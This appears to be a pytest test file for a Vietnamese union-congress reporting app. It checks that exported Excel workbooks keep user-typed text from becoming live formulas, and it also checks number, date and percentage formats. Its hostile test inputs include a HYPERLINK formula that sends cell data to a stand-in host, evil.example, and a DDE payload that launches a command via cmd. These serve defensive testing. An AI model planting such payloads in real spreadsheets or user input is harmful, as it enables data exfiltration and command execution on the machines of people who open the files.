"""Every workbook the project writes goes through shared.xlsx: text typed by users never becomes a live
formula (a recommendation "=HYPERLINK(...)" used to run in the "Kiến nghị" sheet), counts and amounts are
numbers shown #,##0, shares are percentages, dates are dates shown dd/mm/yyyy. Checked in the files' XML,
read back with openpyxl, and as LibreOffice opens them. Percentages print one way everywhere."""
from __future__ import annotations

import ast
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from shared import history
from shared.imports import import_units, template_workbook
from shared.models import (
    CongressReport,
    Officer,
    Recommendation,
    ReportStatusChange,
    SteeringCommittee,
    SteeringMember,
    Unit,
)
from shared.text import format_percent, format_share, format_vote_share
from shared.xlsx import Percent, Workbook
from tests import office
from tests.admin.helpers import csv_bytes
from tui.export import write_xlsx as tui_write_xlsx

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(1+1)", "=1+1", "#N/A", "=cmd|' /C calc'!A0"]
TODAY = dt.date(2023, 6, 15)


@pytest.fixture
def hostile(db, factory, today):
    """Every kind of user text an export carries, each starting like a formula: an imported unit name, report
    notes and override reason, a recommendation's text, addressee and resolution note, steering members."""
    today(TODAY)
    t = factory.tree()
    campaign = factory.campaign()
    report = import_units(db, io.BytesIO(csv_bytes([("G99", HYPERLINK, "cơ sở", "D1", "nhà nước", 30, "", "")])),
                          filename="don-vi.csv")
    assert report.applied, report.errors
    db.commit()
    unit = db.scalar(select(Unit).where(Unit.code == "G99"))
    assert unit.name == HYPERLINK
    congress = CongressReport(campaign_id=campaign.id, unit_id=unit.id, planned_date=dt.date(2023, 5, 2),
                              planned_at=dt.datetime(2023, 2, 1, 9), held_date=dt.date(2023, 5, 2), status="submitted",
                              submitted_at=dt.datetime(2023, 5, 3, 9),
                              notes="+1+1", form_override_reason="-2+3", executive_size=5, funding_vnd=1_500_000)
    db.add(congress)
    db.flush()
    # Sent before the export's date: its recommendations count as of that date (shared.dashboard's rule).
    db.add(ReportStatusChange(report_id=congress.id, changed_at=dt.datetime(2023, 5, 3, 9), from_status="draft",
                              to_status="submitted", version=1))
    db.add_all([
        Recommendation(report_id=congress.id, campaign_id=campaign.id, unit_id=unit.id, topic="jobs", text=HYPERLINK,
                       addressed_to="@SUM(1+1)", resolution_note="=1+1", status="in_progress"),
        Recommendation(report_id=congress.id, campaign_id=campaign.id, unit_id=unit.id, topic="other", text="#N/A"),
    ])
    committee = SteeringCommittee(campaign_id=campaign.id, unit_id=t.d1.id, decision_number="=1+1",
                                  decision_date=dt.date(2023, 1, 12), updated_at=dt.datetime(2023, 1, 12, 8))
    committee.members.append(SteeringMember(full_name=HYPERLINK, title="+1+1", agency="=cmd|' /C calc'!A0",
                                            agency_kind="mass_mobilization", role="head"))
    db.add(committee)
    db.commit()
    return t, campaign, unit


def _produced(client, login_as, factory, t, tmp_path) -> dict[str, bytes]:
    """Every XLSX the project writes, as its users get it."""
    login_as(factory.user("coordinator", t.province))
    files = {}
    for name, url in (("theo-doi.xlsx", f"/dashboard/export.xlsx?as_of={TODAY:%d/%m/%Y}"),
                      ("ban-chi-dao.xlsx", "/party/steering/export.xlsx"),
                      ("ban-chi-dao-d1.xlsx", f"/party/units/{t.d1.id}/steering.xlsx")):
        resp = client.get(url)
        assert resp.status_code == 200, (url, resp.status_code)
        files[name] = resp.data
    files["mau-nhap.xlsx"] = template_workbook()
    # The results template, pre-filled with what the district's reports hold (G99's name and notes among them)
    from shared.models import Campaign
    from shared.result_imports import template_workbook as results_template

    db = factory.session
    files["nhap-ket-qua.xlsx"] = results_template(db, factory.user("district", t.d1), t.d1, db.scalar(select(Campaign)))
    tui = tui_write_xlsx(tmp_path / "tui.xlsx", HYPERLINK, ["Mã", "Đơn vị", "Dự kiến"], [["G99", HYPERLINK, 1], ["X", "-2+3", 2]])
    files["tui.xlsx"] = tui.read_bytes()
    return files


def test_user_text_is_never_a_formula_in_any_workbook(client, login_as, factory, hostile, tmp_path):
    t, _campaign, _unit = hostile
    files = _produced(client, login_as, factory, t, tmp_path)
    seen = set()
    for name, data in files.items():
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for part in z.namelist():
                if part.startswith("xl/worksheets/"):
                    xml = z.read(part)
                    assert b"<f>" not in xml and b"<f " not in xml, (name, part)  # no formula element at all
        wb = openpyxl.load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type not in ("f", "e"), (name, ws.title, cell.coordinate, cell.value)
                    if cell.value in HOSTILE:
                        seen.add(cell.value)
                        assert cell.data_type == "s" and cell.quotePrefix, (name, ws.title, cell.coordinate)
    assert seen == set(HOSTILE)  # every hostile text did reach a workbook

    # As LibreOffice opens them: the texts are there as typed, nothing was computed from them.
    paths = []
    for name, data in files.items():
        paths.append(tmp_path / "in" / name)
        paths[-1].parent.mkdir(exist_ok=True)
        paths[-1].write_bytes(data)
    office.convert(paths, office.CSV_ALL_SHEETS, tmp_path / "csv", tmp_path / "lo-profile")
    sheets = {p.name: p.read_text(encoding="utf-8") for p in (tmp_path / "csv").glob("*.csv")}
    recommendations = next(text for name, text in sheets.items() if name.startswith("theo-doi") and "Kiến nghị" in name)
    assert '"=HYPERLINK(""http://evil.example/?d=""&A1,""Xem"")"' in recommendations
    assert "@SUM(1+1)" in recommendations and "=1+1" in recommendations and "#N/A" in recommendations
    for text in sheets.values():
        for line in text.splitlines():
            assert not any(cell.strip('"') in ("Xem", "#NAME?", "Err:508", "#VALUE!") for cell in line.split(",")), line


def test_counts_amounts_shares_and_dates_have_their_formats(client, login_as, factory, hostile, tmp_path):
    t, _campaign, _unit = hostile
    files = _produced(client, login_as, factory, t, tmp_path)
    wb = openpyxl.load_workbook(io.BytesIO(files["theo-doi.xlsx"]))
    numbers, dates = set(), set()
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, dt.datetime):
                    dates.add(cell.number_format)
                elif isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool):
                    numbers.add(cell.number_format)
    assert numbers == {"#,##0", "0.0%"}  # counts and amounts, shares (held, on time, women...): never "General"
    assert dates == {"dd/mm/yyyy", "dd/mm/yyyy hh:mm"}  # congress dates, deadlines; times of submission, updates
    summary = wb.worksheets[0]
    headers = [c.value for c in summary[1]]
    level = next(r for r in summary.iter_rows(min_row=2) if r[0].value == "Công đoàn cơ sở")
    share = level[headers.index("Tỷ lệ đã đại hội (%)")]
    assert share.number_format == "0.0%" and share.value == pytest.approx(1 / 4)  # 1 of 4 grassroots unions
    steering = openpyxl.load_workbook(io.BytesIO(files["ban-chi-dao.xlsx"])).active
    decided = steering.cell(row=2, column=3)
    assert decided.value == dt.datetime(2023, 1, 12) and decided.number_format == "dd/mm/yyyy"
    tui = openpyxl.load_workbook(io.BytesIO(files["tui.xlsx"])).active
    assert tui.cell(row=3, column=3).number_format == "#,##0"


def test_the_writer_keeps_text_text_and_survives_what_xml_cannot_hold(tmp_path):
    wb = Workbook()
    sheet = wb.sheet("Thử", ["Văn bản", "Số"])
    sheet.append(["\x00bad\x07text", Decimal("1234.5")])
    sheet.append(["x" * 40_000, Percent(None)])
    sheet.append(["\t=1+1", dt.datetime(2023, 5, 31, 9, 30, tzinfo=dt.timezone.utc)])
    ws = openpyxl.load_workbook(io.BytesIO(wb.to_bytes())).active
    assert ws["A2"].value == "badtext" and ws["B2"].number_format == "#,##0.00"
    assert len(ws["A3"].value) == 32_767  # Excel's limit, instead of a failed export
    assert ws["A4"].data_type == "s" and ws["A4"].quotePrefix and ws["B4"].value == dt.datetime(2023, 5, 31, 9, 30)


def test_only_shared_xlsx_writes_workbooks():
    """A new export cannot bypass the writer: no other module builds an openpyxl workbook or cell."""
    offenders = []
    for path in [*ROOT.joinpath("shared").rglob("*.py"), *ROOT.joinpath("portal").rglob("*.py"),
                 *ROOT.joinpath("tui").rglob("*.py")]:
        if path.name == "xlsx.py" and path.parent.name == "shared":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
                names = {alias.name for alias in node.names}
                if names - {"load_workbook"}:  # reading an uploaded file is the import's business
                    offenders.append(f"{path.relative_to(ROOT)}: from {node.module} import {', '.join(sorted(names))}")
            elif isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names):
                offenders.append(f"{path.relative_to(ROOT)}: import openpyxl")
    assert not offenders, offenders


def test_percentages_print_one_way(client, login_as, factory, db, today):
    """A vote share recorded as 92.50 prints "92,50 %" on the report page and in its history alike; shares of
    counts print with one decimal."""
    assert format_share(92.5) == "92,5 %" and format_percent(1, 3) == "33,3 %" and format_share(None) == "–"
    assert format_vote_share(Decimal("92.50")) == format_vote_share(92.5) == "92,50 %"
    assert history.display("officers", [{"role": "chair", "full_name": "Lê Văn An", "vote_pct": 92.5}]) == \
        "Chủ tịch: Lê Văn An (92,50 %)"
    today(TODAY)
    t = factory.tree()
    campaign = factory.campaign()
    report = CongressReport(campaign_id=campaign.id, unit_id=t.g11.id, planned_date=dt.date(2023, 5, 2),
                            planned_at=dt.datetime(2023, 2, 1, 9), held_date=dt.date(2023, 5, 2), status="draft")
    report.officers = [Officer(position=0, role="chair", full_name="Lê Văn An", gender="male", vote_pct=Decimal("92.50"))]
    db.add(report)
    db.commit()
    login_as(factory.user("reporter", t.g11))
    html = client.get(f"/units/{t.g11.id}/report/print").get_data(as_text=True)
    assert "92,50 %" in html and "92,5 %" not in html
